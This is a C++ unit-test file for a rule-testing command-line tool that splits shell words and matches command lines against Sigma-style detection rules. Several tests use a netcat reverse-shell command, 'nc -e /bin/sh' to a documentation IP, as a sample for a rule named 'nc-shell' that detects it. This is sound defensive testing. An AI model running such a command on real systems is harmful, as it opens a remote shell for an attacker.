// algomonitorctl rules: without the helper, as any user.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <cstdio>
#include <filesystem>
#include <fstream>

#include "app/ctl/CommandParser.h"
#include "app/ctl/RuleCommands.h"
#include "app/ctl/RuleEvents.h"
#include "app/ctl/ShellWords.h"

namespace app::ctl {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using Words = std::vector<std::string>;

TEST(ShellWords, AreReadAsAShellReadsThem) {
    EXPECT_EQ(splitShellWords("nc -e /bin/sh  192.0.2.1\t4444"),
              (Words{"nc", "-e", "/bin/sh", "192.0.2.1", "4444"}));
    EXPECT_EQ(splitShellWords(R"(bash -c 'id; "x"' "a b\"c" d\ e '')"),
              (Words{"bash", "-c", "id; \"x\"", "a b\"c", "d e", ""}));
    EXPECT_EQ(splitShellWords(R"("a\nb" '\' a"b"'c')"), (Words{"a\\nb", "\\", "abc"}));
    EXPECT_EQ(splitShellWords("$(id) `id` *"), (Words{"$(id)", "`id`", "*"}));
    EXPECT_EQ(splitShellWords(""), Words{});
    EXPECT_EQ(splitShellWords("a\\"), (Words{"a\\"}));
    EXPECT_FALSE(splitShellWords("echo 'a"));
    EXPECT_FALSE(splitShellWords("echo \"a\\\""));
}

std::string field(const rules::sigma::Event& event, std::string_view name) {
    const std::string* value = event.find(name);
    return value ? *value : "(absent)";
}

TEST(RuleEvents, OfACommandLineNameTheProgram) {
    TestRules test;
    test.commandLine = QStringLiteral("sh -c 'echo  hi'");
    auto event = eventOfCommandLine(test, "/nowhere:/bin");
    EXPECT_EQ(field(event, "CommandLine"), "sh -c echo  hi");
    EXPECT_EQ(field(event, "Image"), "/bin/sh");
    EXPECT_EQ(field(event, "ParentImage"), "(absent)");
    test.commandLine = QStringLiteral("no-such-program x");
    EXPECT_EQ(field(eventOfCommandLine(test, "/bin"), "Image"), "/usr/bin/no-such-program");
    test.commandLine = QStringLiteral("/opt/../opt/x -v");
    EXPECT_EQ(field(eventOfCommandLine(test, "/bin"), "Image"), "/opt/x");
    test.commandLine = QStringLiteral("echo 'open");
    EXPECT_EQ(field(eventOfCommandLine(test, "/bin"), "CommandLine"), "echo 'open");
    test.image = QStringLiteral("/a/b");
    test.parent = QStringLiteral("/c/d");
    event = eventOfCommandLine(test, "/bin");
    EXPECT_EQ(field(event, "Image"), "/a/b");
    EXPECT_EQ(field(event, "ParentImage"), "/c/d");
}

TEST(RuleEvents, OfALineKeepTexts) {
    const auto event =
        readEventLine(R"({"category":"network_connection","DestinationPort":4444,"Initiated":true,)"
                      R"("User":null,"Image":"","Half":0.5})");
    ASSERT_TRUE(event && *event);
    EXPECT_EQ((*event)->category(), rules::sigma::Category::NetworkConnection);
    EXPECT_EQ(field(**event, "DestinationPort"), "4444");
    EXPECT_EQ(field(**event, "Initiated"), "true");
    EXPECT_EQ(field(**event, "User"), "(absent)");
    EXPECT_EQ(field(**event, "Image"), "");
    EXPECT_EQ(field(**event, "Half"), "0.5");
    EXPECT_EQ(field(**event, "category"), "(absent)");
    EXPECT_EQ(*readEventLine(R"({"category":"dns_query"})"), std::nullopt);
    EXPECT_EQ((*readEventLine("{}"))->category(), rules::sigma::Category::ProcessCreation);
    for (const char* wrong : {"", "[]", "1", "{", R"({"a":[1]})", R"({"a":{}})"})
        EXPECT_FALSE(readEventLine(wrong)) << wrong;
}

class CtlRulesTest : public ::testing::Test {
  protected:
    void write(const std::string& name, const std::string& text) {
        const auto path = std::filesystem::path(folder()) / name;
        std::filesystem::create_directories(path.parent_path());
        std::ofstream(path) << text;
    }
    void writeRule(const std::string& name, const std::string& id, const std::string& line) {
        write(name, "title: A rule\nid: " + id +
                        "\nlogsource:\n    category: process_creation\n    product: linux\n"
                        "detection:\n    sel:\n        " +
                        line + "\n    condition: sel\nlevel: low\n");
    }
    std::string folder() const { return m_folder.path().toStdString(); }

    int run(const QStringList& arguments) {
        const auto line = parseCommandLine(QStringList{QStringLiteral("rules")} + arguments,
                                           1'700'000'000'000'000);
        if (!line)
            return static_cast<int>(ExitCode::Usage);
        std::FILE* out = std::tmpfile();
        std::FILE* err = std::tmpfile();
        Console console(out, err);
        const auto code = runWithoutHelper(console, *line);
        m_out = textOf(out).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        m_err = textOf(err);
        return code ? static_cast<int>(*code) : -1;
    }
    int run(const QString& what, const QStringList& more = {}) {
        return run(QStringList{what, QStringLiteral("--rules-dir"), m_folder.path()} + more);
    }
    QJsonObject json(qsizetype line) const {
        return QJsonDocument::fromJson(m_out.value(line).toUtf8()).object();
    }

    QStringList m_out;
    QString m_err;

  private:
    static QString textOf(std::FILE* file) {
        std::rewind(file);
        QByteArray bytes(1 << 16, 0);
        bytes.resize(static_cast<qsizetype>(
            std::fread(bytes.data(), 1, static_cast<std::size_t>(bytes.size()), file)));
        std::fclose(file);
        return QString::fromUtf8(bytes);
    }

    QTemporaryDir m_folder;
};

TEST_F(CtlRulesTest, TestsACommandLine) {
    writeRule("nc.yml", "nc-shell", "CommandLine|contains: ' -e '");
    EXPECT_EQ(run("test", {"--command-line", "nc -e /bin/sh 192.0.2.1 4444", "--json"}), 0);
    EXPECT_EQ(m_out.join('\n'), QStringLiteral(R"({"matched":["nc-shell"]})"));
    EXPECT_EQ(run("test", {"--command-line", "nc -l 4444", "--json"}), 0);
    EXPECT_EQ(m_out.join('\n'), QStringLiteral(R"({"matched":[]})"));
    EXPECT_EQ(run("test", {"--command-line", "nc -e sh"}), 0);
    EXPECT_EQ(m_out.join('\n'), QStringLiteral("nc-shell (low) A rule"));
    EXPECT_EQ(run("test", {"--command-line", "id"}), 0);
    EXPECT_EQ(m_out.join('\n'), QStringLiteral("no rule matches"));
}

TEST_F(CtlRulesTest, AnswersEveryEventWithALine) {
    writeRule("a.yml", "is-a", "Image: /a");
    write("events", "{\"Image\":\"/a\"}\n\nnot json\n{\"Image\":\"/b\"}\n{\"category\":\"dns\"}");
    const QString events = QString::fromStdString(folder() + "/events");
    EXPECT_EQ(run("test", {"--events", events, "--json"}), 1);
    ASSERT_EQ(m_out.size(), 4);
    EXPECT_EQ(json(0)["matched"].toArray(), QJsonArray{"is-a"});
    EXPECT_TRUE(json(1)["matched"].toArray().isEmpty());
    EXPECT_TRUE(json(1).contains("error"));
    EXPECT_TRUE(json(2)["matched"].toArray().isEmpty());
    EXPECT_FALSE(json(2).contains("error"));
    EXPECT_EQ(run("test", {"--events", "/nonexistent"}), 1);
}

TEST_F(CtlRulesTest, ChecksEveryFile) {
    writeRule("good.yml", "good", "Image: /a");
    EXPECT_EQ(run("check", {"--json"}), 0);
    writeRule("bad.yml", "bad", "Image|like: /a");
    write("other.yml", "title: x\nlogsource:\n    product: windows\n");
    write("sub/big.yaml", std::string(300'000, '#'));
    write("not-a-rule.txt", "x");
    write(".hidden.yml", "x");
    EXPECT_EQ(run("check", {"--json"}), 1);
    ASSERT_EQ(m_out.size(), 4);
    EXPECT_EQ(json(0)["state"], "refused");
    EXPECT_EQ(json(0)["line"], 8);
    EXPECT_THAT(json(0)["why"].toString().toStdString(), HasSubstr("like"));
    EXPECT_EQ(json(1)["state"], "loaded");
    EXPECT_EQ(json(1)["rules"].toArray(), QJsonArray{"good"});
    EXPECT_EQ(json(2)["state"], "skipped");
    EXPECT_EQ(json(3)["state"], "refused");
    EXPECT_THAT(json(3)["why"].toString().toStdString(), HasSubstr("larger"));
    EXPECT_EQ(run(QStringList{"check", QString::fromStdString(folder())}), 1);
    EXPECT_THAT(m_out.value(0).toStdString(), HasSubstr("bad.yml:8: refused: "));
    EXPECT_EQ(run(QStringList{"check", "/nonexistent"}), 1);
}

TEST_F(CtlRulesTest, LaterFoldersReplaceEarlierOnes) {
    writeRule("one/a.yml", "same", "Image: /a");
    writeRule("two/a.yml", "same", "Image: /b");
    const QString base = QString::fromStdString(folder());
    const QStringList folders{"--rules-dir", base + "/one", "--rules-dir", base + "/two"};
    EXPECT_EQ(run(QStringList{"test", "--command-line", "/a", "--json"} + folders), 0);
    EXPECT_EQ(m_out.join('\n'), QStringLiteral(R"({"matched":[]})"));
    EXPECT_EQ(run(QStringList{"check"} + folders), 0);
    EXPECT_THAT(m_out.value(0).toStdString(), HasSubstr("is replaced"));
    EXPECT_EQ(run(QStringList{"list", "--json"} + folders), 0);
    ASSERT_EQ(m_out.size(), 1);
    EXPECT_EQ(json(0)["file"].toString(), base + "/two/a.yml");
}

TEST_F(CtlRulesTest, WantsExactlyOneThingToTest) {
    EXPECT_EQ(run("test"), 2);
    EXPECT_EQ(run("test", {"--command-line", "id", "--events", "x"}), 2);
    EXPECT_EQ(run("test", {"--events", "x", "--image", "/a"}), 2);
}

}  // namespace
}  // namespace app::ctl
